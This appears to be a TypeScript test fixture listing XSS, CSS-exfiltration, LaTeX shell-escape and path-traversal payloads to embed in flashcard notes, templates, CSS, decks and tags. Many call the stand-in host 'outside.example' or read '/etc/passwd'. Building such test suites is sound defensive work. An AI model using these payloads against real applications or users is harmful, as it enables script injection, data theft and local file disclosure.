/**
 * Texts that try to run a script, to fetch something, or to leave their card, written for this app: what a deck could bring.
 * Whatever runs calls `ranVector()`; whatever is fetched comes from `outside.example`.
 */

/** What every vector would call. */
export const RAN = 'top.ranVector()'
const OUT = 'https://outside.example'

/** Where a vector stands. */
export interface Vector {
  readonly at: 'field' | 'front' | 'back' | 'css' | 'cloze' | 'deck' | 'tag' | 'type' | 'markdown'
  readonly text: string
}

const ELEMENTS = [
  `<script>${RAN}</script>`,
  `<script src="${OUT}/x.js"></script>`,
  `<SCRIPT>${RAN}</SCRIPT>`,
  `<script type="module">${RAN}</script>`,
  `<scr<script>ipt>${RAN}</scr</script>ipt>`,
  `<script><!--\n${RAN}\n--></script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RAN}>"></noscript>`,
  `<template><script>${RAN}</script></template>`,
  `<template shadowrootmode="open"><script>${RAN}</script><img src=x onerror="${RAN}"></template>`,
  `<img src=x onerror="${RAN}">`,
  `<img src=x onerror=${RAN}//`,
  `<img/src/onerror="${RAN}">`,
  `<img src="x" onerror
="${RAN}">`,
  `<img src="x\`\`" oNeRrOr="${RAN}">`,
  `<image src=x onerror="${RAN}">`,
  `<img src="${OUT}/pixel.png">`,
  `<img src="//outside.example/pixel.png">`,
  `<img srcset="${OUT}/pixel.png 1x">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RAN}'/>">`,
  `<picture><source srcset="${OUT}/p.png"><img src="${OUT}/q.png"></picture>`,
  `<input type="image" src="${OUT}/p.png" onerror="${RAN}">`,
  `<input autofocus onfocus="${RAN}">`,
  `<button autofocus onfocus="${RAN}" formaction="javascript:${RAN}">press</button>`,
  `<textarea autofocus onfocus="${RAN}"></textarea>`,
  `<select autofocus onfocus="${RAN}"><option>1</select>`,
  `<form action="${OUT}"><input type="submit"></form><form id=f></form><button form=f formaction="${OUT}">x</button>`,
  `<details open ontoggle="${RAN}"><summary>s</summary>x</details>`,
  `<video src="${OUT}/v.mp4" onerror="${RAN}" autoplay></video>`,
  `<video poster="${OUT}/p.png"><source src="x" onerror="${RAN}"></video>`,
  `<audio src="${OUT}/a.mp3" autoplay onloadstart="${RAN}"></audio>`,
  `<track default src="${OUT}/t.vtt" oncuechange="${RAN}">`,
  `<iframe src="javascript:${RAN}"></iframe>`,
  `<iframe srcdoc="<script>${RAN}</script>"></iframe>`,
  `<iframe src="${OUT}/page"></iframe>`,
  `<iframe src="data:text/html,<script>${RAN}</script>"></iframe>`,
  `<iframe onload="${RAN}"></iframe>`,
  `<frameset><frame src="javascript:${RAN}"></frameset>`,
  `<object data="javascript:${RAN}"></object>`,
  `<object data="data:text/html,<script>${RAN}</script>"></object>`,
  `<embed src="${OUT}/x.swf">`,
  `<embed src="data:text/html,<script>${RAN}</script>">`,
  `<applet code="x" archive="${OUT}/x.jar"></applet>`,
  `<link rel="stylesheet" href="${OUT}/x.css">`,
  `<link rel="prefetch" href="${OUT}/x"><link rel="preconnect" href="${OUT}">`,
  `<link rel="modulepreload" href="${OUT}/x.js" onerror="${RAN}">`,
  `<meta http-equiv="refresh" content="0;url=${OUT}">`,
  `<base href="${OUT}/"><img src="a.png">`,
  `<title>taken over</title>`,
  `<body onload="${RAN}" onpageshow="${RAN}" background="${OUT}/b.png">`,
  `<style>@import "${OUT}/x.css"; *{background:url(${OUT}/b.png)}</style>`,
  `<style><img src="</style><img src=x onerror='${RAN}'>"></style>`,
  `<div style="background:url(${OUT}/b.png)">x</div>`,
  `<div style="background-image:image-set('${OUT}/b.png' 1x)">x</div>`,
  `<div style="position:fixed;inset:0;z-index:2147483647;background:red">over everything</div>`,
  `<div style="width:expression(${RAN})">x</div>`,
  `<div style="--a:url(${OUT}/v);background:var(--a)">x</div>`,
  `<div style="b\\61 ckground:u\\72l(${OUT}/e)">x</div>`,
  `<div style="font-size:99999px;width:99999999px;height:99999999px">huge</div>`,
  `<div style='content:url("${OUT}/c")'>x</div>`,
  `<div style="list-style-image:url(${OUT}/l);cursor:url(${OUT}/k),auto;border-image:url(${OUT}/m) 1">x</div>`,
  `<div onclick="${RAN}" onmouseover="${RAN}" onanimationstart="${RAN}" onfocusin="${RAN}" tabindex=1 autofocus>x</div>`,
  `<div contenteditable onfocus="${RAN}" autofocus>x</div>`,
  `<div popover id=p onbeforetoggle="${RAN}">x</div><button popovertarget=p>x</button>`,
  `<x onpointerrawupdate="${RAN}" is="some-element">x</x>`,
  `<marquee onstart="${RAN}">x</marquee>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RAN}&gt;">`,
  `<math href="javascript:${RAN}">x</math>`,
  `<math><annotation-xml encoding="text/html"><script>${RAN}</script></annotation-xml></math>`,
  `<svg><p><style><img title="</style><img src onerror=${RAN}>"></style></p></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RAN}>`,
  `<table><tr><td background="${OUT}/b.png"><script>${RAN}</script></table>`,
  `<p id="root" class="dialog" data-theme="x">the ids of the app</p>`,
  `<a id="ranVector"></a><img name="location"><form name="document"></form>`,
  `<!--><script>${RAN}</script>-->`,
  `<![CDATA[<script>${RAN}</script>]]>`,
  `<?php echo 1 ?><script>${RAN}</script>`,
  `<plaintext><script>${RAN}</script>`,
  `<xmp><script>${RAN}</script></xmp>`,
  `\u0000<\u0000script>${RAN}</script>`,
  `<card-sound src="${OUT}/s.mp3" kind="audio"></card-sound><card-link address="javascript:${RAN}">x</card-link>`,
  `<card-hint label="<script>${RAN}</script>"><img src=x onerror="${RAN}"></card-hint>`,
  `<img card-shape="image-occlusion:rect:left=0:top=0:width=1:height=1&quot; onload=&quot;${RAN}" card-role="asked">`,
  `<code class="math-inline">\\href{javascript:${RAN}}{x}</code>`,
] as const

const DRAWINGS = [
  `<svg onload="${RAN}"><circle r=5 /></svg>`,
  `<svg><script>${RAN}</script></svg>`,
  `<svg><script href="${OUT}/x.js"></script></svg>`,
  `<svg><animate onbegin="${RAN}" attributeName=x dur=1s></svg>`,
  `<svg><set onbegin="${RAN}" attributeName=x to=1></svg>`,
  `<svg><a href="javascript:${RAN}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><a><animate attributeName="href" values="javascript:${RAN}"/><text y=20>x</text></a></svg>`,
  `<svg><foreignObject><iframe src="javascript:${RAN}"></iframe></foreignObject></svg>`,
  `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror="${RAN}"></body></foreignObject></svg>`,
  `<svg><use href="${OUT}/x.svg#a"></use></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg'><script>${RAN}</script></svg>#a"></use></svg>`,
  `<svg><image href="${OUT}/p.png" onerror="${RAN}"></image></svg>`,
  `<svg><image xlink:href="${OUT}/p.png"></image></svg>`,
  `<svg><style>@import url(${OUT}/x.css);*{fill:url(${OUT}/f#a)}</style><rect width=9 height=9></svg>`,
  `<svg><rect width=9 height=9 fill="url(${OUT}/f#a)" filter="url(${OUT}/g#a)" mask="url(${OUT}/m#a)"></svg>`,
  `<svg><filter id=f><feImage href="${OUT}/p.png"></filter><rect filter="url(#f)" width=9 height=9></svg>`,
  `<svg><handler type="text/javascript">${RAN}</handler></svg>`,
  `<svg><title><img src=x onerror="${RAN}"></title><desc><script>${RAN}</script></desc></svg>`,
  `<svg style="position:fixed;inset:0;width:100vw;height:100vh"><rect width="100%" height="100%"></svg>`,
] as const

const LINKS = [
  `<a href="javascript:${RAN}">x</a>`,
  `<a href="jAvAsCrIpT:${RAN}">x</a>`,
  `<a href="java&#x09;script:${RAN}">x</a>`,
  `<a href="&#1;javascript:${RAN}">x</a>`,
  `<a href=" javascript:${RAN}">x</a>`,
  `<a href="data:text/html,<script>${RAN}</script>">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="file:///etc/passwd">x</a>`,
  `<a href="smb://outside.example/share">x</a>`,
  `<a href="${OUT}" target="_blank" rel="opener" ping="${OUT}/ping">x</a>`,
  `<a href="${OUT}" onclick="${RAN}" download>x</a>`,
  `<area href="javascript:${RAN}"><map name=m><area shape=default href="${OUT}"></map><img usemap="#m" src="x">`,
  `<a href="https:\\\\outside.example"><img src=x onerror="${RAN}"></a>`,
  `<a href="//outside.example">x</a>`,
] as const

const SOUNDS = [
  `[sound:x.mp3" onerror="${RAN}]`,
  `[sound:${OUT}/s.mp3]`,
  `[sound://outside.example/s.mp3]`,
  `[sound:javascript:${RAN}]`,
  `[sound:<img src=x onerror=${RAN}>]`,
  `[sound:../../collection.db]`,
  `[sound:--script=${OUT}/x.lua]`,
  `[sound:http://outside.example/a b.mp4]`,
  `[sound:file:///etc/passwd]`,
  `[anki:tts lang=en_US]<script>${RAN}</script>[/anki:tts]`,
] as const

const FORMULAS = [
  String.raw`[latex]\input{/etc/passwd}[/latex]`,
  String.raw`[latex]\immediate\write18{touch /tmp/ran}[/latex]`,
  String.raw`[$]\href{javascript:${RAN}}{x}[/$]`,
  String.raw`[$$]\url{${OUT}}[/$$]`,
  String.raw`\(\includegraphics{${OUT}/p.png}\)`,
  String.raw`\[\htmlStyle{position:fixed;background:url(${OUT}/s)}{x}\]`,
  String.raw`\(\htmlData{onclick=${RAN}}{x}\htmlId{root}{y}\htmlClass{dialog}{z}\)`,
  String.raw`\(\text{<script>${RAN}</script><img src=x onerror=${RAN}>}\)`,
  String.raw`\(\color{red;background:url(${OUT}/c)}x\)`,
  String.raw`\(\def\a{\a\a}\a\) \(\rule{99999em}{99999em}\)`,
  `<anki-mathjax>x</anki-mathjax><script>${RAN}</script>`,
  `<anki-mathjax block="true"><img src=x onerror="${RAN}"></anki-mathjax>`,
  `[latex]<img src=x onerror="${RAN}">[/latex]`,
  String.raw`\(<script>${RAN}</script>\)`,
  String.raw`\unclosed \( <img src=x onerror="${RAN}">`,
] as const

const NAMES = [
  `<img src="../../collection.db">`,
  `<img src="..%2f..%2fcollection.db">`,
  `<img src="/media/../../window.json">`,
  `<img src="/media/${'0'.repeat(64)}/../x">`,
  `<img src="a.png?x=${OUT}">`,
  `<img src="a&quot; onerror=&quot;${RAN}.png">`,
  `<img src="CON.png"><img src="a\u202egnp.exe">`,
  `<img src="blob:${OUT}/x"><img src="app://bundle/index.html">`,
] as const

const CLOZES = [
  `{{c1::<script>${RAN}</script>}}`,
  `{{c1::<img src=x onerror="${RAN}">::hint}}`,
  `{{c1::x::<img src=x onerror="${RAN}">}}`,
  `{{c1::x::"><script>${RAN}</script>}}`,
  `{{c1::<svg onload="${RAN}">::{{c2::<script>${RAN}</script>}}}}`,
  `{{c1::{{c2::{{c3::<img src=x onerror=${RAN}>}}}}}}`,
  `<b {{c1::onclick="${RAN}"}}>x</b>`,
  `<img src=x {{c1::onerror}}="${RAN}">`,
  `<scr{{c1::ipt}}>${RAN}</scr{{c1::ipt}}>`,
  `{{c1::image-occlusion:rect:left=0:top=0:width=1:height=1:fill="><script>${RAN}</script>}}<img src=x>`,
  `{{c1::image-occlusion:text:left=0:top=0:text=<img src=x onerror=${RAN}>}}<img src="a.png">`,
  `{{c1::image-occlusion:polygon:points="><script>${RAN}</script>}}`,
  String.raw`\( {{c1::\href{javascript:${RAN}}{x} }} \)`,
] as const

const TEMPLATES = [
  `<script>${RAN}</script>{{Front}}`,
  `{{Front}}<script src="${OUT}/x.js"></script>`,
  `<img src="{{Front}}" onerror="${RAN}">`,
  `<a href="javascript:${RAN}">{{Front}}</a>`,
  `<div onclick="{{Front}}">{{Front}}</div>`,
  `<style>{{Front}} *{background:url(${OUT}/t)}</style>{{Front}}`,
  `<body onload="${RAN}">{{Front}}`,
  `{{hint:Front}}<script>${RAN}</script>`,
  `{{type:Front}}<input autofocus onfocus="${RAN}">{{Back}}`,
  `<iframe srcdoc="{{Front}}<script>${RAN}</script>"></iframe>{{Front}}`,
  `{{#Front}}<script>${RAN}</script>{{/Front}}{{Front}}`,
  `{{Front}}{{#Broken}}<script>${RAN}</script>`,
  `{{Front}}{{Nowhere<script>}}`,
  `{{=<% %>=}}<%Front%><script>${RAN}</script>`,
  `<!-- {{Front}} --><script>${RAN}</script>{{Front}}`,
  `{{Front}} {{Tags}} {{Deck}} {{Type}} {{Card}}`,
  `<a href="${OUT}/?q={{Front}}" style="position:fixed;inset:0">{{Front}}</a>`,
] as const

const SHEETS = [
  `@import "${OUT}/x.css";`,
  `@import url(${OUT}/x.css);.card{color:red}`,
  `@IMPORT '${OUT}/x.css';`,
  `@\\69mport "${OUT}/x.css";`,
  `.card{background:url(${OUT}/b.png)}`,
  `.card{background:u\\72l(${OUT}/b.png)}`,
  `.card{background:URL("${OUT}/b.png")}`,
  `.card{background-image:image-set("${OUT}/b.png" 1x)}`,
  `.card{background:-webkit-image-set(url(${OUT}/b.png) 1x)}`,
  `.card{--u:url(${OUT}/v.png);background:var(--u)}`,
  `.card::before{content:url(${OUT}/c.png)}`,
  `.card{cursor:url(${OUT}/c.cur),auto;list-style:url(${OUT}/l.png)}`,
  `.card{border-image:url(${OUT}/i.png) 1;mask:url(${OUT}/m.svg#a);filter:url(${OUT}/f.svg#a)}`,
  `@font-face{font-family:x;src:url(${OUT}/f.woff2)}.card{font-family:x}`,
  `.card{behavior:url(${OUT}/x.htc);-moz-binding:url(${OUT}/x.xml#a)}`,
  `.card{width:expression(${RAN})}`,
  `.card{position:fixed;inset:0;z-index:2147483647;background:red}`,
  `:host{position:fixed!important;inset:0;z-index:99999}`,
  `:host-context(body){display:none}`,
  `body,html,:root{display:none;background:url(${OUT}/r)}`,
  `.card{color:red}</style><script>${RAN}</script>`,
  `.card{color:"</style><script>${RAN}</script>"}`,
  `/* } */ .card{color:red;/* ; */background:/**/url(${OUT}/k)}`,
  `.card{background:url(${OUT}/unclosed`,
  `.card{color:red;"unclosed\n;background:url(${OUT}/s)}`,
  `@media screen{@import "${OUT}/m";.card{background:url(${OUT}/m)}}`,
  `@supports(display:grid){.card{background:url(${OUT}/su)}}`,
  `@keyframes a{from{background:url(${OUT}/ka)}}.card{animation:a 1s infinite}`,
  `@namespace url(${OUT}/ns);@document url(${OUT}){.card{color:red}}`,
  `input[value^="a"]{background:url(${OUT}/a)}`,
  `.card{& .b{background:url(${OUT}/nest)} color:red}`,
  `@layer x{.card{background:url(${OUT}/layer)}}@container(width>1px){.card{background:url(${OUT}/cq)}}`,
] as const

const WORDS = [
  `<script>${RAN}</script>`,
  `<img src=x onerror=${RAN}>`,
  `"><svg onload=${RAN}>`,
  `{{Front}}<iframe src=javascript:${RAN}>`,
] as const

const MARKDOWN = [
  `[x](javascript:${RAN})`,
  `![x](${OUT}/p.png)`,
  `<script>${RAN}</script>`,
  `<img src=x onerror="${RAN}">`,
  `$\\href{javascript:${RAN}}{x}$`,
  `[sound:${OUT}/s.mp3] [x](${OUT})`,
] as const

function all(at: Vector['at'], texts: readonly string[]): readonly Vector[] {
  return texts.map(text => ({ at, text }))
}

export const VECTORS: readonly Vector[] = [
  ...all('field', [...ELEMENTS, ...DRAWINGS, ...LINKS, ...SOUNDS, ...FORMULAS, ...NAMES]),
  ...all('cloze', CLOZES),
  ...all('front', TEMPLATES),
  ...all('back', TEMPLATES.slice(0, 6)),
  ...all('css', SHEETS),
  ...all('deck', WORDS),
  ...all(
    'tag',
    WORDS.map(word => word.replaceAll(' ', '_')),
  ),
  ...all('type', WORDS),
  ...all('markdown', MARKDOWN),
]

/** A note type and the texts of a note that hold a vector. */
export interface VectorNote {
  readonly type: {
    readonly name: string
    readonly kind: 'standard' | 'cloze'
    readonly fields: readonly string[]
    readonly templates: readonly { readonly name: string; readonly front: string; readonly back: string }[]
    readonly css: string
    readonly markup: 'markdown' | 'html'
  }
  readonly texts: readonly string[]
  readonly deck: string
  readonly tags: readonly string[]
}

const SHEET =
  '.card { font-family: arial; font-size: 20px; text-align: center; color: black; background-color: white; }'
const ALL_NAMES = '{{Tags}} {{Deck}} {{Subdeck}} {{Type}} {{Card}}'

/** The note that a vector stands in. */
export function noteOf({ at, text }: Vector, number: number): VectorNote {
  const front = at === 'front' ? text : at === 'cloze' ? '{{cloze:Front}}' : '{{Front}}'
  const back = at === 'back' ? text : `{{FrontSide}}<hr id=answer>{{Back}} ${ALL_NAMES}`
  const inField = at === 'field' || at === 'cloze' || at === 'markdown'
  return {
    type: {
      name: at === 'type' ? `${number} ${text}` : `Type ${number}`,
      kind: at === 'cloze' ? 'cloze' : 'standard',
      fields: ['Front', 'Back'],
      templates: [
        {
          name: at === 'type' ? text : 'Card 1',
          front: at === 'markdown' ? '{{Front}}' : front,
          back: at === 'markdown' ? '{{Front}}\n\n{{Back}}' : back,
        },
      ],
      css: at === 'css' ? text : SHEET,
      markup: at === 'markdown' ? 'markdown' : 'html',
    },
    texts: inField ? [`Vector ${number} ${text}`, text] : [`Vector ${number}`, 'The answer'],
    deck: at === 'deck' ? `${number} ${text}` : 'Vectors',
    tags: at === 'tag' ? [`${number}${text}`] : [],
  }
}
